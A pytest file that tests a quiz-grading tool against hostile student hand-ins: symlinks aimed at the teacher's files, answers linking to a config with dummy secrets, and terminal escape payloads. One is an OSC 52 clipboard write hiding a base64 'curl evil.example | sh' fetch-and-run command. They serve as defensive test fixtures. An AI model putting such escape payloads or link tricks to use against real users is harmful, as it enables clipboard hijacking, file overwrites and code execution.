"""What a class's hand-in folder can do to the teacher who grades it: links planted where a
feedback file goes, links out to the teacher's own files, and answers full of terminal escapes.

Before: ``ln -s ../private.txt handin/bob.txt; quiz grade handin --feedback handin`` replaced
``private.txt`` with Bob's feedback; an answer file that linked to the teacher's TOML was read,
and its real key names ("no question 'api_key'") went into that student's feedback; and an
answer holding ESC, BEL or an OSC 52 clipboard write reached the feedback file raw, so
``cat fb/eve.txt`` retitled and cleared the teacher's terminal.
"""

from __future__ import annotations

import csv
import json
import os
import re

import pytest

from attn_tui.cli import main

pytestmark = pytest.mark.skipif(not hasattr(os, "symlink"), reason="POSIX links")
QUIZ = '_quiz = ["sc-dot", "sc-steps"]\n'
CONTROL = re.compile(r"[\x00-\x08\x0b-\x0c\x0e-\x1f\x7f-\x9f]")


def grade(capsys, *args) -> tuple[int, str, str]:
    status = main(["--lang", "en", "quiz", "grade", *map(str, args)])
    out = capsys.readouterr()
    return status, out.out, out.err


@pytest.fixture
def handin(tmp_path):
    folder = tmp_path / "handin"
    folder.mkdir()
    for name in ("ann", "bob", "cat"):
        (folder / f"{name}.toml").write_text(QUIZ + "sc-dot = 2\n", "utf-8")
    return folder


@pytest.mark.parametrize("where", ["handin", "elsewhere"])
def test_a_link_where_a_feedback_file_goes_is_refused_and_its_target_untouched(
    tmp_path, capsys, handin, where
):
    private = tmp_path / "private.txt"
    private.write_text("the teacher's own notes\n", "utf-8")
    out = handin if where == "handin" else tmp_path / "fb"
    out.mkdir(exist_ok=True)
    (out / "bob.txt").symlink_to(private)
    (out / "cat.txt").symlink_to(tmp_path / "not-there-yet.txt")  # a dangling link: the same
    status, _, err = grade(capsys, handin, "--feedback", out)
    assert private.read_text("utf-8") == "the teacher's own notes\n"
    assert not (tmp_path / "not-there-yet.txt").exists()
    assert (out / "bob.txt").is_symlink() and (out / "cat.txt").is_symlink()
    assert status == 2 and len(err.strip().splitlines()) == 1 and "Traceback" not in err
    assert "1 feedback file(s) written" in err
    assert f"written to {out}; 2 not written" in err, "the refusal follows its count, no gap"
    assert "2 not written: bob.txt (a link is there" in err and "cat.txt (a link" in err
    assert "Quiz feedback: ann" in (out / "ann.txt").read_text("utf-8"), "the rest are written"


def test_what_was_written_is_said_apart_on_one_line(tmp_path, capsys, handin):
    status, _, err = grade(
        capsys, handin, "--csv", tmp_path / "g.csv", "--feedback", tmp_path / "fb"
    )
    assert status == 0 and len(err.strip().splitlines()) == 1
    assert f"g.csv (3 rows); 3 feedback file(s) written to {tmp_path / 'fb'}" in err, err


def test_a_fifo_or_a_folder_where_a_feedback_file_goes_is_refused(tmp_path, capsys, handin):
    out = tmp_path / "fb"
    out.mkdir()
    os.mkfifo(out / "ann.txt")
    (out / "bob.txt").mkdir()
    status, _, err = grade(capsys, handin, "--feedback", out)
    assert status == 2 and "2 not written" in err and "not a plain file" in err
    assert (out / "cat.txt").is_file() and (out / "bob.txt").is_dir()


def test_feedback_written_again_replaces_its_own_file_only(tmp_path, capsys, handin):
    out = tmp_path / "fb"
    grade(capsys, handin, "--feedback", out)
    other = tmp_path / "other.txt"
    other.write_text("keep\n", "utf-8")
    os.unlink(out / "ann.txt")
    os.link(other, out / "ann.txt")  # a hard link: replaced, the other name keeps its text
    status, _, err = grade(capsys, handin, "--feedback", out)
    assert status == 0 and "3 feedback file(s) written" in err
    assert other.read_text("utf-8") == "keep\n"
    assert "Quiz feedback: ann" in (out / "ann.txt").read_text("utf-8")
    assert not [p for p in out.iterdir() if p.name.startswith(".")], "no temporary file left"


def test_an_answer_file_linking_out_of_the_class_folder_is_not_read(tmp_path, capsys, handin):
    secret = tmp_path / "teacher" / "config.toml"
    secret.parent.mkdir()
    secret.write_text('api_key = "s3cret"\n[database]\npassword = "hunter2"\n', "utf-8")
    (handin / "eve.toml").symlink_to(secret)
    (handin / "sub").mkdir()
    (handin / "sub" / "real.toml").write_text(QUIZ + "sc-dot = 2\n", "utf-8")
    (handin / "fay.toml").symlink_to(handin / "sub" / "real.toml")  # inside: read as usual
    out, book = tmp_path / "fb", tmp_path / "g.csv"
    status, stdout, _ = grade(capsys, handin, "--feedback", out, "--csv", book, "--show-key")
    assert status == 0
    eve = (out / "eve.txt").read_text("utf-8")
    assert "a link to a file outside the class folder" in eve
    everything = eve + stdout + book.read_text("utf-8-sig")
    for leaked in ("api_key", "database", "hunter2", "s3cret", str(secret), "teacher"):
        assert leaked not in everything
    assert "Total: 1 / 2" in (out / "fay.txt").read_text("utf-8")
    status, stdout, _ = grade(capsys, handin / "eve.toml")  # named by the teacher: read
    assert "api_key" in stdout


def test_a_folder_linked_inside_the_class_cannot_reach_out_either(tmp_path, capsys, handin):
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "x.toml").write_text("api_key = 1\n", "utf-8")
    (handin / "dir.toml").symlink_to(outside / "x.toml")
    status, stdout, _ = grade(capsys, handin, "--json")
    assert "api_key" not in stdout and "outside the class folder" in stdout


ESCAPES = {
    "esc-clear": "\x1b[2J\x1b[H",
    "title": "\x1b]0;pwned\x07",
    "osc52": "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",
    "bel": "\x07\x07",
    "c1-csi": "\x9b2J",
    "nul-del": "a\x00b\x7fc",
    "bidi": "\u202eevil",
}


def test_no_file_the_gradebook_writes_carries_a_control_character(tmp_path, capsys):
    folder = tmp_path / "class"
    folder.mkdir()
    answer = "dot product, then softmax" + "".join(ESCAPES.values())
    eve = QUIZ + f"sc-steps = {json.dumps(answer)}\nsc-dot = 2\n"
    (folder / "eve.toml").write_text(eve, "utf-8")
    (folder / "x\x1b[31m.toml").write_text(QUIZ + "sc-dot = 2\n", "utf-8")
    (folder / "broken\x07.toml").write_text("sc-dot = [\n", "utf-8")
    marks = tmp_path / "marks.toml"
    marks.write_text('[eve]\nsc-dot = { mark = 1, comment = "ok\\u001b]0;x\\u0007" }\n', "utf-8")
    out, book = tmp_path / "fb", tmp_path / "g.csv"
    status, stdout, err = grade(capsys, folder, "--feedback", out, "--csv", book,
                                "--overrides", marks, "--show-key")  # fmt: skip
    assert status == 0, (stdout, err)
    written = {p.name: p.read_text("utf-8") for p in out.iterdir()}
    written["g.csv"] = book.read_text("utf-8-sig")
    assert len(written) == 4
    for name, text in written.items():
        assert not CONTROL.search(text.replace("\r\n", "\n")), (name, CONTROL.findall(text))
        assert "\u202e" not in text
    eve = written["eve.txt"]
    assert r"\x1b]52;c;" in eve and r"\x07" in eve, "shown, so the teacher sees what was sent"
    assert "dot product, then softmax" in eve
    for stream in (stdout, err):
        assert not CONTROL.search(stream)
    rows = list(csv.reader(written["g.csv"].splitlines()))
    assert any(r"x\x1b[31m" in cell for row in rows for cell in row)


def test_a_quiz_template_from_a_set_with_escapes_is_still_an_answer_file(tmp_path, capsys):
    own = tmp_path / "mine"
    own.mkdir()
    (own / "q.toml").write_text(
        '[set]\nid = "q"\nquiz = true\ntitle = { zh = "q", en = "q" }\n'
        'summary = { zh = "s", en = "s" }\n\n[[exercise]]\nid = "q-one"\nkind = "number"\n'
        'prompt = { zh = "1+1\\u001b[2J?", en = "1+1\\u001b]0;x\\u0007?" }\nanswer = 2\n'
        'explanation = { zh = "2", en = "2" }\ntopics = ["dot-product"]\n',
        "utf-8",
    )
    assert main(["--exercises", str(own), "quiz", "template", "--sets", "q"]) == 0
    text = capsys.readouterr().out
    assert not CONTROL.search(text)
    (tmp_path / "a.toml").write_text(text.replace('q-one = ""', "q-one = 2"), "utf-8")
    assert main(["--exercises", str(own), "quiz", "grade", str(tmp_path / "a.toml")]) == 0
    assert "2/1" not in capsys.readouterr().out
